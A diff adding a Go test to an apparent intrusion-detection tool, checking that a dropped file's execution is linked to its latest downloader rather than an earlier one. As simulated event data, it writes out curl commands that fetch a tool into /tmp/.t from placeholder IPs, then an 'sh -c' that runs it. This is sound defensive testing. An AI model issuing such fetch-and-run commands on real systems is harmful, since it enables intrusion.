@@ -78,3 +78,23 @@ func BenchmarkLinkDroppedFiles(b *testing.B) {
 		})
 	}
 }
+
+// A name is linked to its latest writer before the use, not to its first:
+// a long archive reuses /tmp/.t, and the tool one intruder fetched two
+// hours earlier is not the one a later shell fetched again and ran.
+func TestLinkDroppedFileLatestWriter(t *testing.T) {
+	s := newSim(t, Options{})
+	s.webServer()
+	a := shellOf(300, worker1, "/tmp")
+	first := s.find(s.exec(10, a, "curl", "-o", "/tmp/.t", "http://198.51.100.9/t"), detect.StageCommandExecution, detect.SeverityHigh, "Download")
+	b := shellOf(400, worker2, "/tmp")
+	again := s.find(s.exec(7200, b, "curl", "-o", "/tmp/.t", "http://203.0.113.4/t"), detect.StageCommandExecution, detect.SeverityHigh, "Download")
+	run := s.find(s.exec(7201, child(401, b), "sh", "-c", "/tmp/.t --round 1"), detect.StageSuspiciousSpawn, detect.SeverityHigh, "Dropped Tool")
+	r := s.build()
+	c := chainOf(r, again)
+	wantIn(t, r, c, "the run belongs with the download just before it", run)
+	wantOut(t, r, c, "the download two hours earlier is another writer's", first)
+	if hasLink(c, "file: /tmp/.t written by pid 300", "") {
+		t.Errorf("links %q name the first writer", c.Links)
+	}
+}
